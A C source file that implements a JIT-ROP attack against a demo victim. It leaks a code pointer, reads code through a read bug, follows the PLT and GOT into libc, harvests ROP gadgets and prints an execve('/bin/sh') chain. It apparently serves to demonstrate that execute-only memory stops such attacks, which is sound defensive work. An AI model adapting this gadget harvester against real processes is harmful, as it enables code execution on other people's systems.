/*
 * attacker.c - a just-in-time code-reuse ("JIT-ROP") attack on demo/victim,
 * using nothing but the victim's read bug.
 *
 *   attacker [-q] VICTIM_COMMAND [ARGS...]
 *
 * It starts the victim with two pipes, takes the code address the victim
 * leaks as its "session id", and reads code through the bug, page by page:
 * first the victim's own page around the leaked address, then, by following
 * a direct call into the victim's PLT and the GOT slot that the PLT stub
 * jumps through, libc's code.  In what it reads it looks for the gadgets a
 * ROP chain for execve("/bin/sh") needs.  ASLR does not stop this: one
 * leaked pointer and a read primitive are enough (Snow et al., "Just-In-Time
 * Code Reuse", IEEE S&P 2013).  Execute-only code does stop it, because the
 * very first read of code fails.
 *
 * Exit status: 0 the gadgets were found (attack succeeded), 1 the attack
 * failed, 2 the attacker itself could not run.
 */
#include <errno.h>
#include <inttypes.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#define PAGE 4096u
/* Enough of libc to find every gadget on any glibc seen so far, few enough
 * that the demo stays quick under an emulated CPU. */
#define MAX_LIBC_PAGES 256

static FILE *to_victim, *from_victim;
static pid_t victim;
static int quiet;
static unsigned pages_read;

static void say(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void say(const char *fmt, ...)
{
	va_list ap;

	if (quiet)
		return;
	fputs("attacker: ", stdout);
	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	putchar('\n');
	fflush(stdout);
}

/* Says how the victim ended, for the failure message. */
static void victim_fate(char *buf, size_t len)
{
	int status;

	fclose(to_victim);
	to_victim = NULL;
	if (waitpid(victim, &status, 0) < 0) {
		snprintf(buf, len, "it vanished");
		return;
	}
	victim = 0;
	if (WIFSIGNALED(status))
		snprintf(buf, len, "it was killed by SIG%s", sigabbrev_np(WTERMSIG(status)));
	else if (WEXITSTATUS(status) > 128)
		/* xom run reports a death by signal as 128 + the signal. */
		snprintf(buf, len, "it was killed by SIG%s (exit status %d)",
		         sigabbrev_np(WEXITSTATUS(status) - 128), WEXITSTATUS(status));
	else
		snprintf(buf, len, "it exited with status %d", WEXITSTATUS(status));
}

static void fail(const char *what, uint64_t addr) __attribute__((noreturn));
static void fail(const char *what, uint64_t addr)
{
	char fate[96];

	victim_fate(fate, sizeof fate);
	printf("attacker: attack failed: %s 0x%" PRIx64 " gave nothing back; %s.\n"
	       "attacker: without reading code there are no gadgets, and ASLR still hides where they are.\n",
	       what, addr, fate);
	exit(1);
}

static int hexval(int c)
{
	return c >= '0' && c <= '9' ? c - '0' : c >= 'a' && c <= 'f' ? c - 'a' + 10 : -1;
}

/* The read primitive: asks the victim for len bytes at addr. */
static int leak(uint64_t addr, unsigned char *out, size_t len)
{
	static char line[2 * PAGE + 64];

	fprintf(to_victim, "%" PRIx64 " %zu\n", addr, len);
	if (fflush(to_victim) != 0)
		return -1;
	if (!fgets(line, sizeof line, from_victim) || strncmp(line, "data ", 5))
		return -1;
	for (size_t i = 0; i < len; i++) {
		int hi = hexval(line[5 + 2 * i]), lo = hi < 0 ? -1 : hexval(line[6 + 2 * i]);
		if (hi < 0 || lo < 0)
			return -1;
		out[i] = (unsigned char)(hi << 4 | lo);
	}
	return 0;
}

static void read_page(uint64_t page, unsigned char *out, const char *what)
{
	if (leak(page, out, PAGE) != 0)
		fail(what, page);
	pages_read++;
}

/*
 * A gadget is a byte sequence that ends in ret (or is a syscall).  A pop
 * gadget is its pop followed by a ret, or by a few more pops and then the
 * ret: glibc 2.41's libc has no "pop rdx; ret" but several "pop rdx; pop
 * rbx; ret".  Those extra pops are harmless when they load registers the
 * chain does not use (not rsp, which would move the stack, nor a register
 * the chain sets); the chain then gives each of them a filler word.
 */
#define MAX_EXTRA 3

struct gadget {
	const char *name;
	unsigned char bytes[2];
	size_t len;
	int pop;                /* ends in harmless pops and ret, not in bytes */
	uint64_t addr;
	unsigned extra;         /* harmless pops between the pop and the ret */
	const char *extra_reg[MAX_EXTRA];       /* what they load */
	char text[80];          /* what was found, as instructions */
};

static struct gadget gadgets[] = {
	{ .name = "pop rdi", .bytes = { 0x5f },       .len = 1, .pop = 1 },
	{ .name = "pop rsi", .bytes = { 0x5e },       .len = 1, .pop = 1 },
	{ .name = "pop rdx", .bytes = { 0x5a },       .len = 1, .pop = 1 },
	{ .name = "pop rax", .bytes = { 0x58 },       .len = 1, .pop = 1 },
	{ .name = "syscall", .bytes = { 0x0f, 0x05 }, .len = 2 },
	{ .name = "ret",     .bytes = { 0xc3 },       .len = 1 },
};
#define NGADGETS (sizeof gadgets / sizeof gadgets[0])
enum { G_RDI, G_RSI, G_RDX, G_RAX, G_SYSCALL, G_RET };

/* The register a harmless pop at p loads, or NULL: rbx, rcx, rbp and r8 to
 * r15, which execve's chain leaves alone (syscall clobbers rcx anyway).
 * *len is the pop's length. */
static const char *harmless_pop(const unsigned char *p, size_t room, size_t *len)
{
	static const char *const r8[8] = { "r8", "r9", "r10", "r11",
	                                   "r12", "r13", "r14", "r15" };

	*len = 1;
	switch (p[0]) {
	case 0x5b: return "rbx";
	case 0x59: return "rcx";
	case 0x5d: return "rbp";
	}
	if (room >= 2 && p[0] == 0x41 && p[1] >= 0x58 && p[1] <= 0x5f) {
		*len = 2;
		return r8[p[1] - 0x58];
	}
	return NULL;
}

/* Whether a pop gadget with exactly `extra` harmless pops starts at i;
 * describes it in g->text if so. */
static int pop_gadget_at(const unsigned char *code, size_t i, unsigned extra,
                         struct gadget *g)
{
	char text[sizeof g->text];
	const char *reg[MAX_EXTRA];
	size_t j = i + g->len, n, used;

	if (memcmp(code + i, g->bytes, g->len))
		return 0;
	used = (size_t)snprintf(text, sizeof text, "%s", g->name);
	for (unsigned k = 0; k < extra; k++) {
		const char *r = j < PAGE ? harmless_pop(code + j, PAGE - j, &n) : NULL;
		if (!r)
			return 0;
		reg[k] = r;
		used += (size_t)snprintf(text + used, sizeof text - used, "; pop %s", r);
		j += n;
	}
	if (j >= PAGE || code[j] != 0xc3)
		return 0;
	snprintf(text + used, sizeof text - used, "; ret");
	memcpy(g->text, text, sizeof text);
	g->extra = extra;
	memcpy(g->extra_reg, reg, extra * sizeof *reg);
	return 1;
}

/* Looks for gadgets in one page of code, at every byte offset: the CPU
 * will happily execute from the middle of an instruction.  A pop gadget
 * with fewer extra pops is taken before one with more. */
static unsigned find_gadgets(const unsigned char *code, uint64_t base)
{
	unsigned missing = 0;

	for (size_t k = 0; k < NGADGETS; k++) {
		struct gadget *g = &gadgets[k];
		for (unsigned extra = 0; g->pop && !g->addr && extra <= MAX_EXTRA; extra++)
			for (size_t i = 0; i + g->len < PAGE && !g->addr; i++)
				if (pop_gadget_at(code, i, extra, g))
					g->addr = base + i;
		if (!g->pop && !g->addr) {
			void *hit = memmem(code, PAGE, g->bytes, g->len);
			if (hit) {
				g->addr = base + (uint64_t)((unsigned char *)hit - code);
				snprintf(g->text, sizeof g->text, "%s", g->name);
			}
		}
		missing += !g->addr;
	}
	return missing;
}

/*
 * The chain, one stack word a line, that execve("/bin/sh", NULL, NULL)
 * needs from these gadgets: each pop gadget's value, then a filler word for
 * each of its extra pops.  The string's address is the attacker's to
 * choose (a copy of "/bin/sh" in memory it can write); the demo victim has
 * no write bug, so the chain is shown, not sent.
 */
static void show_chain(void)
{
	static const struct { int g; uint64_t value; const char *what; } step[] = {
		{ G_RDI, 0, "the address of \"/bin/sh\"" },
		{ G_RSI, 0, "0: argv = NULL" },
		{ G_RDX, 0, "0: envp = NULL" },
		{ G_RAX, 59, "59: the number of execve" },
		{ G_SYSCALL, 0, NULL },
	};
	unsigned words = 0;

	say("the chain, one stack word a line, from the overwritten return address on:");
	for (size_t i = 0; i < sizeof step / sizeof step[0]; i++) {
		const struct gadget *g = &gadgets[step[i].g];
		say("  0x%016" PRIx64 "  %s", g->addr, g->text), words++;
		if (!g->pop)
			continue;
		say("  0x%016" PRIx64 "  %s", step[i].value, step[i].what), words++;
		for (unsigned k = 0; k < g->extra; k++)
			say("  0x%016x  filler for pop %s", 0, g->extra_reg[k]), words++;
	}
	say("  (%u words, %u bytes)", words, words * 8);
}

/*
 * Finds a direct call (e8 rel32) whose target is a PLT stub "jmp *GOT(%rip)"
 * (ff 25 disp32, possibly after endbr64 f3 0f 1e fa, or with a bnd prefix).
 * Scans from *from and moves *from past the call it used, so that the
 * caller can try the next one.  Returns the GOT slot's address, or 0.
 */
static uint64_t find_got_slot(const unsigned char *code, uint64_t base,
                              size_t *from)
{
	unsigned char stub[16];

	for (size_t i = *from; i + 5 <= PAGE; i++) {
		if (code[i] != 0xe8)
			continue;
		int32_t rel;
		memcpy(&rel, code + i + 1, 4);
		uint64_t target = base + i + 5 + (uint64_t)(int64_t)rel;
		/* A PLT stub is near the caller; anything far is not a call. */
		if (target > base + 64 * PAGE || target + 64 * PAGE < base)
			continue;
		if (leak(target, stub, sizeof stub) != 0)
			fail("reading the call target", target);
		size_t o = 0;
		if (!memcmp(stub, "\xf3\x0f\x1e\xfa", 4))
			o = 4;
		if (stub[o] == 0xf2)            /* bnd jmp */
			o++;
		if (stub[o] != 0xff || stub[o + 1] != 0x25)
			continue;
		int32_t disp;
		memcpy(&disp, stub + o + 2, 4);
		*from = i + 1;
		say("  the call at 0x%" PRIx64 " goes to a PLT stub at 0x%" PRIx64
		    " that jumps through the GOT slot at 0x%" PRIx64,
		    base + i, target, target + o + 6 + (uint64_t)(int64_t)disp);
		return target + o + 6 + (uint64_t)(int64_t)disp;
	}
	return 0;
}

static void start_victim(char **argv)
{
	int in[2], out[2];

	if (pipe(in) != 0 || pipe(out) != 0) {
		perror("attacker: pipe");
		exit(2);
	}
	fflush(NULL);
	victim = fork();
	if (victim < 0) {
		perror("attacker: fork");
		exit(2);
	}
	if (victim == 0) {
		dup2(in[0], 0);
		dup2(out[1], 1);
		close(in[0]); close(in[1]); close(out[0]); close(out[1]);
		execvp(argv[0], argv);
		fprintf(stderr, "attacker: cannot run %s: %s\n", argv[0], strerror(errno));
		_exit(127);
	}
	close(in[0]);
	close(out[1]);
	to_victim = fdopen(in[1], "w");
	from_victim = fdopen(out[0], "r");
	/* A victim that dies mid-request must not kill the attacker too. */
	signal(SIGPIPE, SIG_IGN);
}

int main(int argc, char **argv)
{
	static unsigned char code[PAGE];
	int a = 1;

	if (a < argc && !strcmp(argv[a], "-q")) {
		quiet = 1;
		a++;
	}
	if (a >= argc) {
		fprintf(stderr, "usage: attacker [-q] VICTIM_COMMAND [ARGS...]\n");
		return 2;
	}
	start_victim(argv + a);

	char line[128];
	uint64_t leaked;
	if (!fgets(line, sizeof line, from_victim)
	    || sscanf(line, "session %" SCNx64, &leaked) != 1) {
		char fate[96];
		victim_fate(fate, sizeof fate);
		printf("attacker: the victim did not start properly: %s\n", fate);
		return 2;
	}
	say("step 1: the victim's \"session id\" 0x%" PRIx64 " is a code address (one leaked pointer is all JIT-ROP needs)", leaked);

	uint64_t page = leaked & ~(uint64_t)(PAGE - 1);
	say("step 2: reading the victim's own code page 0x%" PRIx64 " through the read bug", page);
	read_page(page, code, "reading the victim's code page");
	say("  got %u bytes of the victim's code; it starts %02x %02x %02x %02x ...",
	    PAGE, code[leaked - page], code[leaked - page + 1],
	    code[leaked - page + 2], code[leaked - page + 3]);
	find_gadgets(code, page);

	say("step 3: following a direct call from that page into libc");
	uint64_t libc_ptr = 0;
	for (size_t from = 0; !libc_ptr; ) {
		uint64_t slot = find_got_slot(code, page, &from);
		if (!slot) {
			printf("attacker: attack failed: no call into a shared library in the victim's code\n");
			return 1;
		}
		if (leak(slot, (unsigned char *)&libc_ptr, sizeof libc_ptr) != 0)
			fail("reading the GOT slot", slot);
		/* With lazy binding a function not called yet still points
		 * back into the victim's PLT; another call will do. */
		if (libc_ptr >= page - 64 * PAGE && libc_ptr < page + 64 * PAGE) {
			say("  that slot is not bound yet (it points back into the victim); trying the next call");
			libc_ptr = 0;
		}
	}
	say("  the GOT slot holds 0x%" PRIx64 ", an address in libc's code", libc_ptr);

	say("step 4: reading libc's code page by page from 0x%" PRIx64 ", looking for gadgets",
	    libc_ptr & ~(uint64_t)(PAGE - 1));
	for (unsigned i = 0; i < MAX_LIBC_PAGES; i++) {
		uint64_t p = (libc_ptr & ~(uint64_t)(PAGE - 1)) + (uint64_t)i * PAGE;
		read_page(p, code, i ? "reading libc's code page" : "reading libc's first code page");
		if (find_gadgets(code, p) == 0)
			break;
	}

	unsigned missing = 0;
	say("gadgets found in %u pages (%u KiB) of code that the victim never meant to show:",
	    pages_read, pages_read * PAGE / 1024);
	for (size_t g = 0; g < NGADGETS; g++) {
		if (gadgets[g].addr)
			say("  %-13s at 0x%" PRIx64 ": %s", gadgets[g].name,
			    gadgets[g].addr, gadgets[g].text);
		else
			say("  %-13s not found", gadgets[g].name), missing++;
	}
	fputs("quit\n", to_victim);
	char fate[96];
	victim_fate(fate, sizeof fate);
	if (missing) {
		printf("attacker: attack failed: %u gadgets not found\n", missing);
		return 1;
	}
	show_chain();
	printf("attacker: attack succeeded: with these addresses a ROP chain can call execve(\"/bin/sh\") in the victim.\n");
	return 0;
}
